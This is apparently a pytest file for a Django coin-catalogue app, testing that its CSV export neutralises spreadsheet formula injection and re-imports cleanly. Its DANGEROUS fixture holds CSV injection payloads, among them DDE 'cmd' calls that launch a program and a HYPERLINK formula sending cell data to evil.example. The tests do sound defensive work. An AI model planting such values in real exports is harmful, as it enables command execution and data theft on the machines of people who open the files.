"""collection.exporters and ``manage.py export_csv``: the catalogue as CSV that re-imports, and that
no spreadsheet program runs as formulas."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from collection.exporters import catalogue_csv_export, catalogue_csv_export_file
from collection.importers.base import is_formula_like
from collection.importers.tabular import import_csv_file
from collection.models import Concept, Item, Specimen, SpecimenImage
from tests.factories import make_concept, make_image, make_item, make_specimen

pytestmark = pytest.mark.django_db

DANGEROUS = {
    "title": "=cmd|' /C calc'!A0",
    "obverse_legend": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "provenance": "@SUM(1+1)*cmd|' /C calc'!A0",
    "findspot": "+1+cmd|' /C calc'!A0",
    "holding_collection": "-2+3+cmd|' /C calc'!A0",
    "reverse_legend": "\t=1+1",
    "concept": "=evil()",
    "attribute": "@attack",
}

NORMAL_HEADER = [
    "record_id",
    "title",
    "item_uri",
    "item_reference",
    "item_title",
    "authority",
    "authority_uri",
    "mint",
    "material",
    "material_uri",
    "date_from",
    "date_to",
    "obverse_legend",
    "obverse_description",
    "reverse_legend",
    "reverse_description",
    "weight_g",
    "diameter_mm",
    "axis",
    "source_url",
    "holding_collection",
    "provenance",
    "findspot",
    "image_rights",
    "concept:portrait",
    "concept:portrait:uri",
    "attr:rarity",
]
NORMAL_ROWS = [
    [
        "1944.100.1",
        "Denarius of Caesar, Rome. 1944.100.1",
        "http://numismatics.org/crro/id/rrc.480.1",
        "RRC 480/1",
        "Denarius of Caesar",
        "Julius Caesar",
        "http://nomisma.org/id/julius_caesar",
        "Rome",
        "Silver",
        "http://nomisma.org/id/ar",
        "-44",
        "-44",
        "CAESAR DICT PERPETVO",
        "Wreathed head of Caesar, right",
        "P SEPVLLIVS MACER",
        "Venus standing, left",
        "3.91",
        "18.5",
        "6",
        "http://numismatics.org/collection/1944.100.1",
        "ANS",
        "Ex Newell",
        "Rome, Tiber",
        "Public domain",
        "Julius Caesar",
        "http://nomisma.org/id/julius_caesar",
        "R2",
    ],
    [
        "1944.100.2",
        "Another of the same type",
        "http://numismatics.org/crro/id/rrc.480.1",
        "RRC 480/1",
        "Denarius of Caesar",
        "Julius Caesar",
        "http://nomisma.org/id/julius_caesar",
        "Rome",
        "Silver",
        "http://nomisma.org/id/ar",
        "-44",
        "-44",
        "CAESAR DICT PERPETVO",
        "Wreathed head of Caesar, right",
        "P SEPVLLIVS MACER",
        "Venus standing, left",
        "3,87",
        "",
        "12",
        "",
        "ANS",
        "",
        "",
        "",
        "Julius Caesar",
        "http://nomisma.org/id/julius_caesar",
        "R2",
    ],
    [
        "0000.999.7",
        "Joint reign coin",
        "http://numismatics.org/ocre/id/ric.4.crl.1",
        "RIC IV Caracalla 1",
        "Aureus of Caracalla and Geta",
        "Caracalla | Geta",
        "http://nomisma.org/id/caracalla | http://nomisma.org/id/geta",
        "Rome",
        "Gold",
        "",
        "198",
        "217",
        "ANTONINVS PIVS AVG",
        "",
        "",
        "",
        "7.2",
        "20",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
    ],
    [
        "X.1",
        "Unattributed bronze",
        "",
        "",
        "",
        "Constantine I",
        "",
        "",
        "Bronze",
        "",
        "",
        "",
        "",
        "",
        "",
        "",
        "2.1",
        "",
        "",
        "",
        "Drawer 4",
        "",
        "",
        "",
        "",
        "",
        "common",
    ],
]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def export_text(**kwargs) -> str:
    out = io.StringIO()
    catalogue_csv_export(out=out, **kwargs)
    return out.getvalue()


def wipe() -> None:
    Specimen.objects.all().delete()
    Item.objects.all().delete()
    Concept.objects.all().delete()


def snapshot() -> list[tuple]:
    """Everything the generic layout carries, in a comparable form."""
    rows = []
    for specimen in Specimen.objects.select_related("item").order_by("record_id"):
        item = specimen.item
        item_part = None
        if item is not None:
            item_part = (
                item.uri,
                item.reference,
                item.title,
                item.date_from,
                item.date_to,
                item.obverse_legend,
                item.obverse_description,
                item.reverse_legend,
                item.reverse_description,
                sorted((c.kind, c.label, c.uri) for c in item.concepts.all()),
                item.attributes,
            )
        rows.append(
            (
                specimen.record_id,
                specimen.title,
                specimen.weight_g,
                specimen.diameter_mm,
                specimen.die_axis,
                specimen.source_url,
                specimen.holding_collection,
                specimen.provenance,
                specimen.findspot,
                specimen.image_rights,
                None if item is not None else specimen.attributes,
                item_part,
            )
        )
    return rows


def dangerous_catalogue() -> Specimen:
    concept = make_concept("authority", DANGEROUS["concept"])
    item = make_item(
        concepts=[concept],
        obverse_legend=DANGEROUS["obverse_legend"],
        reverse_legend=DANGEROUS["reverse_legend"],
        date_from=-44,
        date_to=-42,
        attributes={"rarity": DANGEROUS["attribute"]},
    )
    return make_specimen(
        item,
        title=DANGEROUS["title"],
        provenance=DANGEROUS["provenance"],
        findspot=DANGEROUS["findspot"],
        holding_collection=DANGEROUS["holding_collection"],
        weight_g=Decimal("3.5"),
    )


class TestNeutralising:
    def test_every_dangerous_cell_is_exported_with_a_leading_quote(self):
        dangerous_catalogue()
        text = export_text()
        header, *rows = list(csv.reader(io.StringIO(text)))
        row = dict(zip(header, rows[0], strict=True))
        for column, value in DANGEROUS.items():
            name = {"concept": "authority", "attribute": "attr:rarity"}.get(column, column)
            assert row[name] == "'" + value, name
        assert not any(is_formula_like(cell) for cell in rows[0])
        # Numbers stay numbers: a spreadsheet must still read -44 as minus forty-four.
        assert (row["date_from"], row["date_to"], row["weight_g"]) == ("-44", "-42", "3.500")

    def test_the_result_counts_the_neutralised_cells(self):
        dangerous_catalogue()
        result = catalogue_csv_export(out=io.StringIO())
        assert result.rows == 1 and result.neutralised == len(DANGEROUS)

    def test_a_dangerous_export_re_imports_to_the_same_values_without_warnings(self, tmp_path):
        dangerous_catalogue()
        before = snapshot()
        path = catalogue_csv_export_file(path=tmp_path / "export.csv").path
        wipe()
        result = import_csv_file(Path(path))
        assert result.failed == [] and result.warnings == []
        after = snapshot()
        assert after[0][1] == DANGEROUS["title"]
        # Whitespace inside cells is collapsed on import (the tab before "=1+1"), as for every import.
        assert before[0][11][7] == "\t=1+1" and after[0][11][7] == "=1+1"
        assert [_without_reverse_legend(row) for row in after] == [_without_reverse_legend(row) for row in before]


def _without_reverse_legend(row: tuple) -> tuple:
    item = list(row[11])
    item[7] = None
    return (*row[:11], tuple(item))


class TestRoundTrip:
    def test_a_normal_catalogue_survives_export_and_import_unchanged(self, tmp_path):
        first = import_csv_file(write_csv(tmp_path / "normal.csv", NORMAL_HEADER, NORMAL_ROWS))
        assert first.failed == [] and first.created == len(NORMAL_ROWS) and first.warnings == []
        before = snapshot()
        exported = tmp_path / "export.csv"
        result = catalogue_csv_export_file(path=exported)
        assert result.rows == len(NORMAL_ROWS) and result.neutralised == 0
        wipe()
        second = import_csv_file(exported)
        assert second.failed == [] and second.created == len(NORMAL_ROWS) and second.warnings == []
        assert snapshot() == before
        again = tmp_path / "again.csv"
        catalogue_csv_export_file(path=again)
        assert again.read_bytes() == exported.read_bytes()

    def test_the_export_re_imports_onto_the_same_records_without_duplicates(self, tmp_path):
        import_csv_file(write_csv(tmp_path / "normal.csv", NORMAL_HEADER, NORMAL_ROWS))
        before = snapshot()
        counts = (Item.objects.count(), Specimen.objects.count(), Concept.objects.count())
        catalogue_csv_export_file(path=tmp_path / "export.csv")
        result = import_csv_file(tmp_path / "export.csv")
        assert result.created == 0 and result.updated == len(NORMAL_ROWS)
        assert (Item.objects.count(), Specimen.objects.count(), Concept.objects.count()) == counts
        assert snapshot() == before

    def test_images_are_exported_as_media_paths_that_re_import(self, tmp_path, settings):
        specimen = make_specimen(make_item(), title="With photo")
        make_image(specimen)
        text = export_text(include_images=True)
        header, row = list(csv.reader(io.StringIO(text)))
        name = dict(zip(header, row, strict=True))["obverse_image"]
        assert name and (Path(settings.MEDIA_ROOT) / name).is_file()
        path = tmp_path / "with-images.csv"
        path.write_text(text)
        SpecimenImage.objects.all().delete()
        result = import_csv_file(path, images_dir=Path(settings.MEDIA_ROOT))
        assert result.failed == [] and result.images_added == 1


class TestCommand:
    def test_it_writes_the_file_and_says_how_many_rows(self, tmp_path):
        dangerous_catalogue()
        make_specimen(None, title="Plain")
        out = io.StringIO()
        path = tmp_path / "sub" / "catalogue.csv"
        call_command("export_csv", str(path), stdout=out)
        assert "2 specimens exported" in out.getvalue() and f"{len(DANGEROUS)} cells" in out.getvalue()
        data = path.read_bytes()
        assert data.startswith(b"\xef\xbb\xbf")  # spreadsheet programs then read it as UTF-8
        assert b"'=cmd|" in data and b"\n=cmd" not in data and b",=cmd" not in data

    def test_a_folder_is_refused_with_a_clear_error(self, tmp_path):
        with pytest.raises(CommandError, match="is a folder"):
            call_command("export_csv", str(tmp_path))
